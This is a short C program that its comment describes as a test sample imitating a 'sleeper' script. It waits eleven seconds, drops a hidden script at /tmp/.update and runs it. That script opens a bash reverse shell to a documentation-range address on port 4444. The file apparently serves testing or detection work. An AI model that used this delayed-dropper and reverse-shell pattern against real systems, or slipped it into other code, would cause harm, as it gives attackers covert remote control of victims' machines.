// nap: like the sleeper's script, in one static program and short enough for tests: sleeps for eleven seconds
// by a system call, then drops a script, runs it, and that one calls home. 203.0.113.0/24 is TEST-NET-3.
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(void) {
  static const char script[] =
      "#!/bin/bash\n"
      "timeout 2 bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'\n"
      "exit 0\n";
  const struct timespec pause = {.tv_sec = 11};
  nanosleep(&pause, NULL);
  const int fd = open("/tmp/.update", O_CREAT | O_WRONLY | O_TRUNC, 0755);
  if (fd < 0 || write(fd, script, strlen(script)) < 0 || close(fd) != 0) return 1;
  execl("/tmp/.update", "/tmp/.update", (char*)NULL);
  return 1;
}
